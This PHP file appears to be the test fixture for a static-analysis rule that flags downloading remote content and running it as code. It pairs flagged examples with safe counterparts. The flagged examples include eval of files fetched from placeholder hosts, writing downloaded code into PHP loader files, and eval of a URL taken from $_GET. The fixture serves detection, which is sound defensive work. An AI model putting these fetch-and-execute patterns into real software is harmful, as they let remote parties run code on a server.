<?php
// ruleid: php-download-run-as-code
eval(file_get_contents('https://parts.example.net/p.txt'));

class Feed
{
    private $body;

    private function ask($where)
    {
        $h = curl_init($where);
        curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);
        $out = curl_exec($h);
        curl_close($h);
        return $out;
    }

    public function load()
    {
        $this->body = $this->ask('http://203.0.113.9/l');
    }

    public function show()
    {
        // ruleid: php-download-run-as-code
        eval('?>' . trim($this->body));
    }
}

function renew()
{
    $next = wp_remote_retrieve_body(wp_remote_get('https://cdn.example.org/next'));
    // ruleid: php-download-run-as-code
    file_put_contents(__DIR__ . '/loader.php', $next);
}

function renew_by_handle()
{
    $from = file_get_contents('http://cdn.example.org/raw/12');
    $to = fopen('cache.inc', 'w');
    // ruleid: php-download-run-as-code
    fwrite($to, $from);
    fclose($to);
}

function by_name($x)
{
    $answer = explode('|', file_get_contents('https://cdn.example.org/f?x=' . $x));
    // ruleid: php-download-run-as-code
    return $answer[0]($answer[1]);
}

function of_visitor()
{
    $place = $_GET['place'];
    // ruleid: php-download-run-as-code
    eval(str_replace('<?php', '', file_get_contents($_GET['place'])));
}

function picture()
{
    // ok: php-download-run-as-code
    file_put_contents('/srv/cache/logo.png', file_get_contents('https://cdn.example.org/logo.png'));
}

function rates()
{
    // ok: php-download-run-as-code
    return json_decode(file_get_contents('https://rates.example.org/v1'), true);
}

function own_page()
{
    // ok: php-download-run-as-code
    include __DIR__ . '/page.php';
    // ok: php-download-run-as-code
    file_put_contents(__DIR__ . '/settings.php', '<?php return ' . var_export(array(1), true) . ';');
}

function template($name)
{
    $text = file_get_contents(__DIR__ . '/templates/' . $name);
    // ok: php-download-run-as-code
    eval('?>' . $text);
}
